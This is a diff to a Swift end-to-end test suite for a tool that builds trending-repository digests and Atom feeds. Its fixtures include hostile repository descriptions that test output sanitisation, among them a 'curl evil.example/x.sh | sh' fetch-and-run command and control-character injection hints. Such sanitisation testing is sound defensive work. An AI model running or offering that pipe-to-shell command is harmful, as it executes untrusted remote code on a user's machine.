@@ -55,8 +55,8 @@ struct DigestEndToEndTests {
         #expect(result.status == 0 && result.stderr == "")
         let lines = result.stdout.split(separator: "\n", omittingEmptySubsequences: false).dropLast()
         #expect(lines.count == 6 && lines.allSatisfy { $0.hasPrefix("- [") })
-        #expect(lines.first == "- [mallory/evilrepo](\(server.baseURL)/mallory/evilrepo) · ★ 6.7k · Rust — Harmless formatter screen wiped")
-        #expect(lines.contains("- [crlf-carl/safe-installer](\(server.baseURL)/crlf-carl/safe-installer) · ★ 404 · Shell — curl evil.example/x.sh \\| shSafe, audited installer. hidden del nulend"))
+        #expect(lines.first == "- [mallory/evilrepo](\(server.baseURL)/mallory/evilrepo) · ★ 6.7k · +6.7k ★ in 24 h · Rust — Harmless formatter screen wiped")
+        #expect(lines.contains("- [crlf-carl/safe-installer](\(server.baseURL)/crlf-carl/safe-installer) · ★ 404 · +404 ★ in 24 h · Shell — curl evil.example/x.sh \\| shSafe, audited installer. hidden del nulend"))
         #expect(result.stdout.components(separatedBy: "](").count == 7, "one link per item")
         #expect(!result.stdout.unicodeScalars.contains { ($0.value < 0x20 && $0 != "\n") || (0x7F...0x9F).contains($0.value) })
     }
@@ -74,12 +74,12 @@ struct DigestEndToEndTests {
         #expect(feed.id == "tag:127.0.0.1,2026:trending?since=daily&language=swift&topic=cli")
         #expect(feed.title == "Daily trending Swift repositories (topic cli) · " + server.baseURL.dropFirst("http://".count))
         #expect(feed.updated == "2026-11-23T12:00:00Z")
-        #expect(feed.link.hasPrefix(server.baseURL + "/search?q=created%3A%3E2026-11-22+language%3ASwift+topic%3Acli"))
+        #expect(feed.link.hasPrefix(server.baseURL + "/search?q=created%3A%3E%3D2026-11-22T12%3A00%3A00Z+language%3ASwift+topic%3Acli"))
         #expect(feed.hasAuthor)
         #expect(feed.entries.count == 3)
         let first = try #require(feed.entries.first)
         #expect(first.id == server.baseURL + "/octo-org/rocket" && first.title == "octo-org/rocket" && first.link == first.id)
-        #expect(first.updated.hasSuffix("Z") && first.summary.hasPrefix("★ 9.8k · Swift — Launch-ready template"))
+        #expect(first.updated.hasSuffix("Z") && first.summary.hasPrefix("★ 9.8k · +9.8k ★ in 24 h · Swift — Launch-ready template"))
         #expect(try parseFeed(again.stdout).entries.map(\.id) == feed.entries.map(\.id), "the same repos, the same ids")
     }
 
